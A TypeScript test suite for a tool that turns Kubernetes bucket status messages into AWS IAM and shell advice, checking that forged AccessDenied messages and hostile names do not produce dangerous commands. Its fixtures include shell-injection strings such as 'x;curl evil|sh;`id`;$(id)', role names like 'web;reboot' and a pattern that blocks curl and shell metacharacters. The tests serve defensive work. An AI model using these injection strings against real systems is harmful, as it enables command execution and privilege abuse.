import { describe, expect, test } from "vitest";
import { kindData } from "../../../lib/kinds/kind-data.generated.ts";
import type { ObjectStatus } from "../../../lib/kubernetes/object.ts";
import { TerminalError } from "../../../lib/reconcile/contract/errors.ts";
import { conditionsOf } from "../../../lib/reconcile/object/conditions.ts";
import { classify } from "../../../lib/reconcile/object/failure.ts";
import type { AdviceTable } from "../../../lib/why/advice.ts";
import { adviceOnNotes } from "../../../lib/why/advice-on-notes.ts";
import { adviceOnRefusals } from "../../../lib/why/advice-on-refusals.ts";
import { adviceOnRoles } from "../../../lib/why/advice-on-roles.ts";
import { adviceOnWaits } from "../../../lib/why/advice-on-waits.ts";
import { explain } from "../../../lib/why/explain.ts";
import { formatExplanation } from "../../../lib/why/format-explanation.ts";
import type { Situation } from "../../../lib/why/situation.ts";

const kind = kindData.find(({ resource }) => resource.kind === "Bucket") ?? expect.fail("no data about Bucket");
const ARN = "arn:aws:s3:::invoices";
const WEB = "arn:aws:iam::444455556666:role/web";
const SESSION = "arn:aws:sts::444455556666:assumed-role/web/driftless-shop";
const VICTIM = "arn:aws:sts::444455556666:assumed-role/admin/driftless-shop";
const NO_IDENTITY = "because no identity-based policy allows the action";

/** What is known of a bucket with this status, in a namespace to which the role `web` is assigned. */
function situationOf(status: Partial<ObjectStatus>, given: Partial<Situation> = {}): Situation {
  const metadata = { name: "invoices", namespace: "shop", uid: "u", resourceVersion: "1", generation: 2 };
  return {
    kind,
    object: {
      apiVersion: "s3.services.k8s.aws/v1alpha1",
      kind: "Bucket",
      metadata,
      status: { observedGeneration: 2, conditions: [], ...status },
    },
    namespace: undefined,
    deployment: { clusterName: "production", kinds: ["Bucket"], account: "111122223333", roles: "selectors" },
    assignedRole: WEB,
    relayProblem: undefined,
    now: 0,
    ...given,
  };
}

const metadataOf = (arn: string) => ({
  ackResourceMetadata: { arn, region: "us-west-2", ownerAccountID: "444455556666" },
});

/** The conditions of an object whose status says that it failed for this reason. */
function failed(reason: string) {
  return [
    { type: "ACK.Recoverable", status: "True", message: reason },
    {
      type: "ACK.ResourceSynced",
      status: "Unknown",
      reason,
      message: "Unable to determine if desired resource state matches latest observed state",
    },
  ] as never;
}

function commandsFor(situation: Situation): readonly string[] {
  return explain(situation).causes.flatMap(({ commands = [] }) => commands);
}

function denial(operation: string, { principal = SESSION, action = "s3:PutBucketPolicy", resource = ARN } = {}) {
  return `operation error S3: ${operation}, api error AccessDenied: User: ${principal} is not authorized to perform: ${action} on resource: "${resource}" ${NO_IDENTITY}`;
}

function grantOf(commands: readonly string[]) {
  const [command] = commands.filter((one) => one.includes("put-role-policy"));
  return command && JSON.parse(/'(\{.*\})'/.exec(command)?.[1] ?? "").Statement[0];
}

describe("a forged status", () => {
  test("grants nothing for a call that the kind does not make", () => {
    const conditions = failed(denial("PutRolePolicy", { action: "iam:PutRolePolicy", resource: "*" }));
    expect(commandsFor(situationOf({ ...metadataOf(ARN), conditions }))).toEqual([]);
  });

  test.each(["iam:PutRolePolicy", "s3:DeleteObject", "constructor:name"])(
    "grants no action that the kind does not require: %s",
    (action) => {
      const conditions = failed(denial("PutBucketPolicy", { action, resource: ARN }));
      expect(grantOf(commandsFor(situationOf({ ...metadataOf(ARN), conditions })))).toBeUndefined();
    },
  );

  test.each([
    ["arn:aws:s3:::theirs", ARN],
    ["arn:aws:s3:::*", "arn:aws:s3:::*"],
    ["*", "*"],
    ["arn:aws:iam::444455556666:role/admin", "arn:aws:iam::444455556666:role/admin"],
    [ARN, "arn:aws:s3:::invoices';curl$IFS"],
  ])("grants nothing on %s, with %s as the object's resource", (resource, own) => {
    const conditions = failed(denial("PutBucketPolicy", { resource }));
    expect(grantOf(commandsFor(situationOf({ ...metadataOf(own), conditions })))).toEqual({
      Effect: "Allow",
      Action: ["s3:PutBucketPolicy"],
      Resource: "<ARN of the resource>",
    });
  });

  test("does not choose the role: neither by AWS's message nor by the condition about the role", () => {
    const selected = {
      type: "ACK.IAMRoleSelected",
      status: "True",
      message: "roleARN: arn:aws:iam::444455556666:role/admin",
    };
    for (const assignedRole of [WEB, undefined]) {
      const conditions = [...failed(denial("PutBucketPolicy", { principal: VICTIM })), selected] as never;
      for (const command of commandsFor(situationOf({ ...metadataOf(ARN), conditions }, { assignedRole }))) {
        expect(command).not.toContain("admin");
      }
    }
  });
});

test("a text that quotes a failed call, such as a value of the spec, is no failed call", () => {
  const quoted = `; ${denial("PutBucketPolicy", { principal: VICTIM, action: "iam:PutRolePolicy", resource: "*" })}`;
  const refusal = new TerminalError("RoleNotPassable", `spec.replication.role is x${quoted}, which is not allowed`);
  const conditions = conditionsOf({ failure: classify([refusal], { kind, arn: ARN }), advisories: [] });
  const { causes } = explain(situationOf({ ...metadataOf(ARN), conditions: conditions as never }));
  expect(causes).toMatchObject([{ reason: "RoleNotPassable" }]);
  expect(causes[0]).not.toHaveProperty("call");
  expect(JSON.stringify(causes[0]?.commands ?? [])).not.toContain("aws ");
});

describe("names that a shell would act on", () => {
  const NAME = "x;curl evil|sh;`id`;$(id);'\"";
  /** What a shell would act on: what is outside of quotes. */
  const outside = (command: string) => command.replaceAll("'\\''", "").replaceAll(/'[^']*'/g, "");

  test.each(["web;reboot", "$(id)", "`id`", "a b", "<role>"])("the name of a role is one word: %s", (name) => {
    const assignedRole = `arn:aws:iam::444455556666:role/${name}`;
    const principal = `arn:aws:sts::444455556666:assumed-role/${name}/s`;
    for (const end of [
      "because no permissions boundary allows it",
      "with an explicit deny in an identity-based policy",
      NO_IDENTITY,
    ]) {
      const conditions = failed(denial("PutBucketPolicy", { principal }).replace(NO_IDENTITY, end));
      const commands = commandsFor(situationOf({ ...metadataOf(ARN), conditions }, { assignedRole }));
      expect(commands).not.toEqual([]);
      for (const command of commands) expect(outside(command)).not.toMatch(/[;$`<>|&]/);
    }
  });

  const tables: Readonly<Record<string, AdviceTable>> = {
    adviceOnNotes,
    adviceOnRefusals,
    adviceOnRoles,
    adviceOnWaits,
  };
  test.each(Object.entries(tables))("no command of %s contains them outside of quotes", (_, table) => {
    const { object, ...others } = situationOf({});
    const annotations = { "driftless.dev/paused": "true" };
    const about = {
      ...others,
      object: { ...object, metadata: { ...object.metadata, name: NAME, namespace: NAME, annotations } },
    };
    for (const advice of Object.values(table)) {
      for (const command of advice(about).commands ?? []) expect(outside(command)).not.toMatch(/[;$`|&]|curl/);
    }
  });

  test("nor does the command that requests a pass", () => {
    const explanation = { ...explain(situationOf({ conditions: failed("broken") })), next: { by: "change" as const } };
    const lines = formatExplanation({ kind: kind.resource, namespace: NAME, name: NAME }, explanation, {
      width: 80,
      now: 0,
    });
    const command = lines.find((line) => line.includes("sync --wait")) ?? expect.fail("there is no command");
    expect(outside(command)).not.toMatch(/[;$`|&]|curl/);
  });
});
